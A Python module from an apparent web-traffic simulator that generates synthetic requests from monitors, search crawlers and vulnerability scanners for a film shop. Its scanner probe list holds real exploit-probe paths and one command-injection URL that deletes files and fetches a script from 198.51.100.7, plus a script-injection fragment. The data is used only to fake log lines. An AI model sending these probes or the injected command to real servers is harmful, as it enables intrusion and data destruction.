"""Machines that ask: search engines, somebody's scripts, those who look for holes, and the shop's own monitoring.

What belongs here: their requests of a day. What does not: people (``journeys``).
"""

import random
from collections.abc import Iterator, Sequence
from typing import Final

from data_platform.simulator.traffic.journeys import Request
from data_platform.simulator.traffic.visitors import SERVERS, Visitor, machine

DAY_SECONDS: Final = 86_400

CRAWLERS: Final = (
    "Mozilla/5.0 (compatible; Lanternbot/2.1; +https://lantern.example/bot.html)",
    "Mozilla/5.0 (compatible; ReelSpider/1.4; +https://reelspider.example/about)",
    "PricewatchCrawler/0.9 (+https://pricewatch.example/crawler)",
)
MONITOR: Final = "Uptime-Monitor/3.2"
SCRIPTS: Final = ("python-requests/2.32.5", "curl/8.16.0", "Go-http-client/1.1", "-")

_HOLES: Final = (
    *("/wp-login.php", "/.env", "/.git/config", "/phpmyadmin/index.php", "/xmlrpc.php", "/admin/config.php"),
    *("/cgi-bin/luci/;stok=/locale?form=country", "/vendor/phpunit/src/Util/PHP/eval-stdin.php", "/actuator/health"),
    *("/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/a.sh", "/index.php?s=%22%3E%3Cscript%3E", "/backup.zip"),
)
_PROBE_EVERY: Final = 300
_PAGE: Final = 14_000


def monitoring(chance: random.Random) -> Iterator[Request]:
    """The uptime monitor: every server, every five minutes."""
    for server in range(SERVERS):
        visitor = Visitor(machine(chance, MONITOR, host=server).client, MONITOR, server)
        offset = chance.random() * 60
        for tick in range(0, DAY_SECONDS, _PROBE_EVERY):
            yield Request(visitor, tick + offset, "/health", size=15, lasts=0.01)


def crawling(chance: random.Random, films: Sequence[int], lines: int) -> Iterator[Request]:
    """Search engines, about so many requests together: the films on sale, at times where they once were."""
    for host, agent in enumerate(CRAWLERS, start=10):
        visitor = machine(chance, agent, host=host)
        yield Request(visitor, chance.random() * 3_600, "/robots.txt", size=112)
        yield Request(visitor, chance.random() * 3_600, "/sitemap.xml", size=48_000)
        for _ in range(lines // len(CRAWLERS)):
            film = chance.choice(films)
            gone = chance.random() < 0.06  # noqa: PLR2004 - a share
            target = f"/movies/{film}" if gone else f"/films/{film}"
            status, size = (404, 1_270) if gone else (200, _PAGE + film % _PAGE)
            yield Request(visitor, chance.random() * DAY_SECONDS, target, status, size)


def scanning(chance: random.Random) -> Iterator[Request]:
    """A few times a day somebody looks for holes, quickly; nobody finds one."""
    for _ in range(chance.randint(1, 4)):
        visitor = machine(chance, chance.choice(SCRIPTS))
        second = chance.random() * (DAY_SECONDS - 600)
        for _ in range(chance.randint(15, 60)):
            second += chance.expovariate(2)
            method = chance.choices(("GET", "POST", "HEAD", "PROPFIND"), (80, 14, 4, 2))[0]
            status = 405 if method == "PROPFIND" else 404
            yield Request(visitor, second, chance.choice(_HOLES), status, 0 if method == "HEAD" else 1_270, method)
